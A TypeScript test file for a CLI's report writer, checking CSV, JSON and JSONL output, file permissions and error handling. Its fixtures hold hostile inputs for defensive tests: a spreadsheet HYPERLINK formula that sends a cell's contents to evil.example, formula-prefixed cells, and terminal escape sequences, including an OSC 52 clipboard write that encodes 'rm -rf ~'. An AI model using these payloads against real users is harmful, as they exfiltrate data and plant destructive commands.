import { mkdtemp, readFile, rm, stat, writeFile, chmod, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ReportEntry, ReportError, openReport, reportFormatFor } from '../../src/io/report.js';

let tmp: string;
beforeAll(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'imctl-report-'));
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

const ENTRIES: ReportEntry[] = [
  {
    line: 2,
    user: 'jdoe',
    dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com',
    action: 'enable',
    outcome: 'changed',
    toHomeServer: 'im-east',
  },
  {
    line: 3,
    user: 'Doe, John',
    dn: 'CN=Doe\\, John,OU=Staff,DC=corp,DC=example,DC=com',
    action: 'disable',
    outcome: 'unchanged',
  },
  {
    line: 4,
    user: '=HYPERLINK("http://evil.example/?"&A1)',
    action: 'enable',
    outcome: 'invalid',
    reason: 'user "x" appears again (first on line 2)',
  },
  {
    line: 5,
    user: '-jdoe',
    dn: 'CN=-jdoe,DC=corp,DC=example,DC=com',
    action: 'move',
    outcome: 'failed',
    reason: '-ERR server said\r\nno',
    fromHomeServer: 'im-east',
    toHomeServer: 'im-west',
  },
  { line: 6, user: 'josé.müller', action: 'enable', outcome: 'planned' },
  { line: 7, user: '@cmd', action: 'enable', outcome: 'skipped', reason: ' +1' },
  { line: 0, user: 'from-argv', action: 'disable', outcome: 'changed', dn: '', reason: '' },
];

async function writeAll(path: string, entries = ENTRIES): Promise<void> {
  const report = openReport(path);
  for (const e of entries) await report.write(e);
  expect(report.count).toBe(entries.length);
  await report.close();
}

const mode = async (path: string): Promise<number> => (await stat(path)).mode & 0o777;

describe('reportFormatFor', () => {
  it.each([
    ['out.csv', 'csv'],
    ['OUT.CSV', 'csv'],
    ['/tmp/x/report.json', 'json'],
    ['run.jsonl', 'jsonl'],
  ])('%s → %s', (path, format) => {
    expect(reportFormatFor(path)).toBe(format);
  });

  it.each(['out.txt', 'out', 'out.csv.bak', 'out.xlsx', '.csv'])('rejects %s before any work starts', (path) => {
    expect(() => reportFormatFor(path)).toThrow(ReportError);
    expect(() => openReport(join(tmp, path))).toThrow(/must end in \.csv, \.json or \.jsonl/);
  });
});

describe('CSV report', () => {
  it('writes the columns, RFC 4180 quoting, a BOM and neutralised formula cells', async () => {
    const path = join(tmp, 'report.csv');
    await writeAll(path);
    const raw = await readFile(path, 'utf8');
    expect(raw.startsWith('\uFEFFline,user,dn,action,outcome,reason,fromHomeServer,toHomeServer\r\n')).toBe(true);
    const rows = parse(raw, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toEqual([
      {
        line: '2',
        user: 'jdoe',
        dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com',
        action: 'enable',
        outcome: 'changed',
        reason: '',
        fromHomeServer: '',
        toHomeServer: 'im-east',
      },
      {
        line: '3',
        user: 'Doe, John',
        dn: 'CN=Doe\\, John,OU=Staff,DC=corp,DC=example,DC=com',
        action: 'disable',
        outcome: 'unchanged',
        reason: '',
        fromHomeServer: '',
        toHomeServer: '',
      },
      {
        line: '4',
        user: '\'=HYPERLINK("http://evil.example/?"&A1)',
        dn: '',
        action: 'enable',
        outcome: 'invalid',
        reason: 'user "x" appears again (first on line 2)',
        fromHomeServer: '',
        toHomeServer: '',
      },
      {
        line: '5',
        user: "'-jdoe",
        dn: 'CN=-jdoe,DC=corp,DC=example,DC=com',
        action: 'move',
        outcome: 'failed',
        reason: "'-ERR server said\r\nno",
        fromHomeServer: 'im-east',
        toHomeServer: 'im-west',
      },
      {
        line: '6',
        user: 'josé.müller',
        dn: '',
        action: 'enable',
        outcome: 'planned',
        reason: '',
        fromHomeServer: '',
        toHomeServer: '',
      },
      {
        line: '7',
        user: "'@cmd",
        dn: '',
        action: 'enable',
        outcome: 'skipped',
        reason: "' +1",
        fromHomeServer: '',
        toHomeServer: '',
      },
      {
        line: '',
        user: 'from-argv',
        dn: '',
        action: 'disable',
        outcome: 'changed',
        reason: '',
        fromHomeServer: '',
        toHomeServer: '',
      },
    ]);
    // No cell a spreadsheet would evaluate.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^\s*[=+\-@]/);
  });

  it('writes only the header for an empty run', async () => {
    const path = join(tmp, 'empty.csv');
    await writeAll(path, []);
    expect(await readFile(path, 'utf8')).toBe(
      '\uFEFFline,user,dn,action,outcome,reason,fromHomeServer,toHomeServer\r\n',
    );
  });
});

describe('the report on standard output (--report -)', () => {
  const HOSTILE: ReportEntry = {
    line: 1,
    user: 'x\x1b]0;pwned\x07',
    dn: 'CN=x\x1b[2J,DC=corp',
    action: 'move',
    outcome: 'failed',
    reason: 'im-\x1b]52;c;cm0gLXJmIH4=\x07 \u202eevil \x9b',
  };
  async function onStdout(isTTY: boolean): Promise<string> {
    let text = '';
    const stdout = Object.assign(new Writable({ write: (c, _e, done) => ((text += c), done()) }), { isTTY });
    const report = openReport('-', stdout);
    await report.write(HOSTILE);
    await report.close();
    return text;
  }

  it('on a terminal, directory text is shown inert: no ESC, BEL, C1 or bidi override reaches it', async () => {
    const text = await onStdout(true);
    expect(text).not.toMatch(/[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    expect(text).toContain('x\\x1b]0;pwned\\x07');
  });

  it('piped, the cells stay exact (for the script reading them)', async () => {
    const rows = parse(await onStdout(false), { columns: true }) as Record<string, string>[];
    expect(rows[0]).toMatchObject({ user: HOSTILE.user, dn: HOSTILE.dn, reason: HOSTILE.reason });
  });
});

describe('JSON reports', () => {
  it('.json: one array, null for absent values, nothing neutralised', async () => {
    const path = join(tmp, 'report.json');
    await writeAll(path);
    const data = JSON.parse(await readFile(path, 'utf8')) as unknown[];
    expect(data).toHaveLength(ENTRIES.length);
    expect(data[0]).toEqual({
      line: 2,
      user: 'jdoe',
      dn: 'CN=John Doe,OU=Staff,DC=corp,DC=example,DC=com',
      action: 'enable',
      outcome: 'changed',
      reason: null,
      fromHomeServer: null,
      toHomeServer: 'im-east',
    });
    expect(data[2]).toMatchObject({ user: '=HYPERLINK("http://evil.example/?"&A1)', dn: null });
    expect(data[6]).toEqual({
      line: null,
      user: 'from-argv',
      dn: null,
      action: 'disable',
      outcome: 'changed',
      reason: null,
      fromHomeServer: null,
      toHomeServer: null,
    });
    expect(Object.keys(data[4] as object).join(',')).toBe(
      'line,user,dn,action,outcome,reason,fromHomeServer,toHomeServer',
    );
  });

  it('.json: an empty run is an empty array', async () => {
    const path = join(tmp, 'empty.json');
    await writeAll(path, []);
    expect(JSON.parse(await readFile(path, 'utf8'))).toEqual([]);
  });

  it('.jsonl: one object per line', async () => {
    const path = join(tmp, 'report.jsonl');
    await writeAll(path);
    const lines = (await readFile(path, 'utf8')).trimEnd().split('\n');
    expect(lines).toHaveLength(ENTRIES.length);
    expect(JSON.parse(lines[3] ?? '')).toEqual({
      line: 5,
      user: '-jdoe',
      dn: 'CN=-jdoe,DC=corp,DC=example,DC=com',
      action: 'move',
      outcome: 'failed',
      reason: '-ERR server said\r\nno',
      fromHomeServer: 'im-east',
      toHomeServer: 'im-west',
    });
  });

  it('streams many entries', async () => {
    const path = join(tmp, 'many.json');
    const report = openReport(path);
    for (let i = 0; i < 50_000; i++)
      await report.write({ line: i + 2, user: `u${i}`, action: 'enable', outcome: 'planned' });
    await report.close();
    const data = JSON.parse(await readFile(path, 'utf8')) as { line: number }[];
    expect(data).toHaveLength(50_000);
    expect(data[49_999]?.line).toBe(50_001);
  });
});

describe('file handling', () => {
  it.each(['new.csv', 'new.json', 'new.jsonl'])('creates %s with mode 0600', async (name) => {
    const path = join(tmp, name);
    await writeAll(path);
    expect(await mode(path)).toBe(0o600);
  });

  it('makes an existing file 0600 and replaces its contents', async () => {
    const path = join(tmp, 'existing.csv');
    await writeFile(path, 'old contents that are much longer than the new report will be '.repeat(100));
    await chmod(path, 0o644);
    await writeAll(path, ENTRIES.slice(0, 1));
    expect(await mode(path)).toBe(0o600);
    const text = await readFile(path, 'utf8');
    expect(text).not.toContain('old contents');
    expect(text.split('\r\n')).toHaveLength(3);
  });

  it('keeps 0600 whatever the umask', async () => {
    const old = process.umask(0o000);
    try {
      const path = join(tmp, 'umask.jsonl');
      await writeAll(path);
      expect(await mode(path)).toBe(0o600);
    } finally {
      process.umask(old);
    }
  });

  it('works when write() is not awaited (as a caller with everything in memory may do)', async () => {
    const path = join(tmp, 'not-awaited.csv');
    const report = openReport(path);
    for (const e of ENTRIES) void report.write(e);
    await report.close();
    expect(parse(await readFile(path, 'utf8'), { bom: true, columns: true })).toHaveLength(ENTRIES.length);
  });

  it('refuses writes after close, and close twice is harmless', async () => {
    const report = openReport(join(tmp, 'closed.csv'));
    await report.close();
    await report.close();
    expect(() => report.write(ENTRIES[0]!)).toThrow(/already closed/);
  });

  it.each([
    [
      'a missing directory',
      () => join(tmp, 'no-such-dir', 'r.csv'),
      /Cannot write the report to .*r\.csv: its directory does not exist\.$/,
    ],
    [
      'a directory',
      async () => {
        const d = join(tmp, 'dir.csv');
        await mkdir(d);
        return d;
      },
      /dir\.csv: it is a directory\.$/,
    ],
  ])('throws ReportError synchronously for %s', async (_name, path, message) => {
    const p = await path();
    expect(() => openReport(p)).toThrow(ReportError);
    expect(() => openReport(p)).toThrow(message);
  });

  it.skipIf(process.getuid?.() === 0)('throws ReportError for an unwritable directory', async () => {
    const d = join(tmp, 'ro');
    await mkdir(d, { mode: 0o500 });
    expect(() => openReport(join(d, 'r.csv'))).toThrow(/permission denied/);
  });

  it('reports a write failure from close()', async () => {
    // A pipe whose reader has gone: the open succeeds, every write fails (EPIPE). (A symlink to
    // /dev/full with a .csv name would do too, but report paths are never followed through symlinks.)
    const path = join(tmp, 'gone.csv');
    const { execFileSync, spawn } = await import('node:child_process');
    execFileSync('mkfifo', [path]);
    const reader = spawn('sh', ['-c', `exec < '${path}'`]); // opens the pipe for reading, then exits
    const report = openReport(path);
    await new Promise((resolve) => reader.on('exit', resolve));
    await report.write(ENTRIES[0]!);
    await expect(report.close()).rejects.toThrow(/Writing the report .*gone\.csv failed: .*EPIPE/);
  });
});
